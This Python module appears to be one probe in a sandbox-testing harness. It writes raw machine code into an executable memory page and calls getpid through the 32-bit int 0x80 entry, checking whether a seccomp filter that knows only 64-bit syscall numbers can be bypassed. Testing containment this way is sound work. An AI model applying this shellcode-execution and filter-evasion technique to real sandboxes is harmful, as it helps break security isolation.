"""Call by the 32-bit entry.

gain: every call, past a filter that knows the usual numbers alone
attack: T1562
stopped by: seccomp
unconfined: host
needs: x86_64
"""

import ctypes
import mmap

from attacker import Refused, in_child

CODE = bytes.fromhex("53b814000000cd805bc3")  # push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret


def attempt(world):
    def go():
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(CODE)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        result = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
        if result < 0:
            raise Refused(f"int 0x80 answered {result}")
        return f"getpid by int 0x80: {result}"

    return in_child(go)
